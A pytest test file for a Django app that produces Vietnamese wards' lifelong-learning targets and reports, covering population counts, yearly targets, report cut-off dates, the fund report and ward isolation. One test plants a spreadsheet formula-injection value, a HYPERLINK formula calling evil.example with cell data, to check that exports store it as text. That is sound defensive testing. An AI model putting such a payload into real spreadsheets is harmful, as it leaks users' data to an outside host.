"""Targets and reports upward as wards run them (issue 16 §4a/b): QĐ 677/QĐ-TTg's populations, the
province layer and the ward's yearly targets, reports frozen at their cut-off, the lifelong-learning week,
the fund report by the Hội Khuyến học, and ward isolation of the report URLs."""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from congphuong.learning import reports, stats
from congphuong.learning.choices import CITIZEN_DIGITAL, CITIZEN_STAFF, AwardCategory, LearningModel, Status, UnitKind
from congphuong.learning.models import Award, RecognitionDecision, Registration, Target, Unit
from congphuong.wards.tests.factories import make_ward

from .factories import CitizenFactory, HouseholdFactory, MemberFactory, QuarterFactory, make_criteria_set, officer

pytestmark = pytest.mark.django_db

YEAR = 2025


def recognise(site, model, signed_on, **subject):
    """A registration of YEAR recognised by a decision signed on `signed_on`."""
    number = f"{Registration.objects.count() + 1}/QĐ"
    decision = RecognitionDecision.objects.create(
        site=site,
        year=YEAR,
        learning_model=model,
        number=number,
        signed_on=signed_on,
        signer_name="Người Ký",
        signer_title="Chủ tịch",
        issuer="Cơ quan thử",
    )
    registration = Registration.objects.create(
        site=site,
        year=YEAR,
        learning_model=model,
        criteria_set=make_criteria_set(learning_model=model, version=number),
        registered_on=datetime.date(YEAR, 2, 1),
        **subject,
    )
    Registration.objects.filter(pk=registration.pk).update(
        status=Status.RECOGNISED, decision=decision, valid_until=datetime.date(YEAR + 1, 12, 31)
    )
    return registration


@pytest.fixture
def ward_world(ward):
    """Two khu phố: khu phố 1 a recognised learning community (3 adults), khu phố 2 not, with one recognised
    learning family (2 adults) and one other household (2 adults); a recognised unit of 20 staff."""
    one, two = QuarterFactory(site=ward, name="Khu phố 1"), QuarterFactory(site=ward, name="Khu phố 2")
    community_home = HouseholdFactory(site=ward, quarter=one)
    for born in (1970, 1975, 1990):
        MemberFactory(household=community_home, birth_year=born)
    family, other = HouseholdFactory(site=ward, quarter=two), HouseholdFactory(site=ward, quarter=two)
    for household in (family, other):
        MemberFactory(household=household, birth_year=1980)
        MemberFactory(household=household, birth_year=1982)
        MemberFactory(household=household, birth_year=YEAR - 3)  # a child
    unit = Unit.objects.create(site=ward, name="Trường Tiểu học Thử", kind=UnitKind.SCHOOL, staff_count=20)
    recognise(ward, LearningModel.COMMUNITY, datetime.date(YEAR, 5, 20), community=one)
    recognise(ward, LearningModel.FAMILY, datetime.date(YEAR, 5, 20), household=family)
    recognise(ward, LearningModel.UNIT, datetime.date(YEAR, 5, 20), unit=unit)
    citizens = {
        "in_community": CitizenFactory(site=ward, quarter=one, household=community_home, birth_year=1975),
        "in_family": CitizenFactory(site=ward, quarter=two, household=family, birth_year=1980),
        "elsewhere": CitizenFactory(site=ward, quarter=two, household=other, birth_year=1980),
        "at_work": CitizenFactory(site=ward, quarter=two, household=other, unit=unit, birth_year=1985),
    }
    for name, citizen in citizens.items():
        registration = recognise(ward, LearningModel.CITIZEN, datetime.date(YEAR, 11, 25), citizen=citizen)
        Registration.objects.filter(pk=registration.pk).update(digital_skills=name != "elsewhere")
    return ward


def test_citizen_targets_count_the_populations_of_qd_677(ward_world):
    rows = {row.kind: row for row in stats.progress(ward_world, YEAR)}
    adults = rows[LearningModel.CITIZEN]
    # 3 adults of the learning community + 2 of the learning family elsewhere; not the other household's 2.
    assert (adults.denominator, adults.recognised) == (5, 2)
    assert stats.denominators(ward_world, YEAR)[stats.ADULTS] == 7  # all adults: no longer the base
    staff = rows[CITIZEN_STAFF]
    assert (staff.denominator, staff.recognised, staff.recognised_percent) == (20, 1, Decimal("5.0"))
    digital = rows[CITIZEN_DIGITAL]
    assert (digital.denominator, digital.recognised, digital.recognised_percent) == (4, 3, Decimal("75.0"))
    assert digital.target.percent == 70 and "677/QĐ-TTg" in digital.target.legal_basis


def test_province_layer_and_yearly_ward_targets(client, ward):
    # The national figure for families after 2025 is pending; the city's plan fills 2026–2030.
    Target.objects.create(
        province="thành phố hồ chí minh", kind=LearningModel.FAMILY, year=2028, percent=75, legal_basis="KH thành phố"
    )
    Target.objects.create(
        province="Thành phố Hà Nội ", kind=LearningModel.FAMILY, year=2027, percent=99, legal_basis="Nơi khác"
    )
    assert stats.targets_for(ward, 2026)[LearningModel.FAMILY].legal_basis == "KH thành phố"
    Target.objects.create(
        site=ward, kind=LearningModel.FAMILY, year=2026, percent=72, legal_basis="Kế hoạch năm 2026 của phường"
    )
    Target.objects.create(
        province="Thành phố Hồ Chí Minh", kind=LearningModel.FAMILY, year=2026, percent=71, legal_basis="KH 2026"
    )
    chosen = stats.targets_for(ward, 2026)[LearningModel.FAMILY]
    assert chosen.site == ward and chosen.layer == "Phường"
    assert stats.targets_for(ward, 2027)[LearningModel.FAMILY].percent == 75
    cells = dict(stats.yearly_targets(ward, 2025, 2030, today=datetime.date(2026, 6, 1)))
    family = cells["Gia đình học tập (tỷ lệ hộ gia đình)"]
    assert [cell.target_percent for cell in family] == [70, 72, 75, 75, None, None]
    assert family[3].layer == "Tỉnh, thành phố (thành phố hồ chí minh)" and family[4].target.needs_confirmation
    client.force_login(officer(sites=[ward]))
    html = client.get(reverse("learning_dashboard") + "?nam=2026").content.decode()
    assert "Chỉ tiêu từng năm và tiến độ" in html and "72%" in html


def test_six_month_report_is_frozen_at_30_6_beside_last_year(ward_world):
    late_unit = Unit.objects.create(site=ward_world, name="Đơn vị ký sau", kind=UnitKind.AGENCY, staff_count=5)
    recognise(ward_world, LearningModel.UNIT, datetime.date(YEAR, 7, 2), unit=late_unit)
    report = reports.six_month(ward_world, YEAR, today=datetime.date(YEAR, 7, 10))
    table = report.sections[1].tables[0]
    units = next(row for row in table.rows if row[0] == "Đơn vị học tập (tỷ lệ đơn vị)")
    # The unit decided on 02/07 is not in the six-month figures; last year at 30/6 had none.
    assert units[3] == 1 and units[5] == 0
    assert "so với cùng kỳ năm 2024" in report.subtitle
    assert report.recipient == "Sở Giáo dục và Đào tạo Thành phố Hồ Chí Minh"
    assert report.signer_title == "TM. Ủy ban nhân dân" and report.prepared_by == "Phòng Văn hóa – Xã hội"


def test_year_end_cut_off_before_the_provinces_deadline(client, ward_world):
    client.force_login(officer(sites=[ward_world]))
    url = reverse("learning_report", args=["tong-ket-nam", "xlsx"]) + f"?phuong={ward_world.pk}&nam={YEAR}"
    refused = client.get(url + "&chot=20/12/2025", follow=True)
    assert "trước ngày 15/12/2025" in refused.content.decode()
    early = load_workbook(io.BytesIO(client.get(url + "&chot=20/11/2025").content))
    rows = [[cell.value for cell in row] for row in early["Kết quả theo mô hình"].iter_rows()]
    citizens = next(row for row in rows if str(row[0]).startswith("Công dân học tập (tỷ lệ người lớn"))
    assert citizens[3] == 0  # the citizens' decision was signed on 25/11, after the cut-off
    default = load_workbook(io.BytesIO(client.get(url).content))
    summary = [row[0].value for row in default["Tổng hợp"].iter_rows()]
    assert "Số liệu từ 01/01/2025 đến ngày chốt 30/11/2025 (gửi trước 15/12)" in summary
    rows = [[cell.value for cell in row] for row in default["Kết quả theo mô hình"].iter_rows()]
    citizens = next(row for row in rows if str(row[0]).startswith("Công dân học tập (tỷ lệ người lớn"))
    assert citizens[3] == 2


def test_lifelong_learning_week_report_from_the_records(ward_world):
    quarter = QuarterFactory(site=ward_world, name="Khu phố 3")
    Registration.objects.create(
        site=ward_world,
        year=YEAR,
        learning_model=LearningModel.FAMILY,
        household=HouseholdFactory(site=ward_world, quarter=quarter),
        criteria_set=make_criteria_set(version="tuần lễ"),
        registered_on=datetime.date(YEAR, 10, 3),
    )
    Award.objects.create(
        site=ward_world,
        school_year="2025-2026",
        awarded_on=datetime.date(YEAR, 10, 5),
        category=AwardCategory.GOOD_PUPIL,
        recipient_name="Học Sinh Thử",
        school="Trường Thử",
        grade="Lớp 5",
        amount=Decimal(500_000),
    )
    report = reports.learning_week(ward_world, YEAR, today=datetime.date(YEAR, 10, 8))
    paragraphs = report.sections[0].paragraphs
    assert "Đăng ký mới các mô hình học tập: 1 lượt." in paragraphs
    assert "Khen thưởng, học bổng trao trong tuần: 1 suất, 500.000 đ." in paragraphs
    assert report.subtitle == "Từ ngày 01/10/2025 đến ngày 07/10/2025"


def test_fund_report_is_signed_by_the_association_and_guards_formulas(client, ward):
    Award.objects.create(
        site=ward,
        school_year="2025-2026",
        awarded_on=datetime.date(YEAR, 9, 5),
        category=AwardCategory.GOOD_PUPIL,
        recipient_name="Học Sinh Thử",
        school='=HYPERLINK("https://evil.example/?"&A1,"Xem")',
        grade="Lớp 9",
        amount=Decimal(400_000),
    )
    report = reports.fund_report(ward, YEAR, today=datetime.date(2026, 1, 5))
    assert report.signer_title == "TM. Ban Chấp hành Hội Khuyến học"
    assert report.recipient == "Hội Khuyến học Thành phố Hồ Chí Minh"
    assert report.unit_name == "HỘI KHUYẾN HỌC PHƯỜNG THỬ NGHIỆM"
    client.force_login(officer(sites=[ward]))
    response = client.get(reverse("learning_report", args=["bao-cao-quy", "xlsx"]) + f"?phuong={ward.pk}&nam={YEAR}")
    book = load_workbook(io.BytesIO(response.content))
    cell = next(c for row in book["Theo trường"].iter_rows() for c in row if str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s"  # text, never a formula
    assert "Số dư theo nguồn" in book.sheetnames


def test_new_reports_refuse_another_ward(client, ward):
    other = make_ward(hostname="benkia.test", name="Phường Bên Kia")
    client.force_login(officer(sites=[ward]))
    for kind in reports.REPORT_KINDS:
        for file_format in ("xlsx", "pdf"):
            url = reverse("learning_report", args=[kind, file_format]) + f"?phuong={other.pk}&nam={YEAR}"
            assert client.get(url).status_code == 404, url
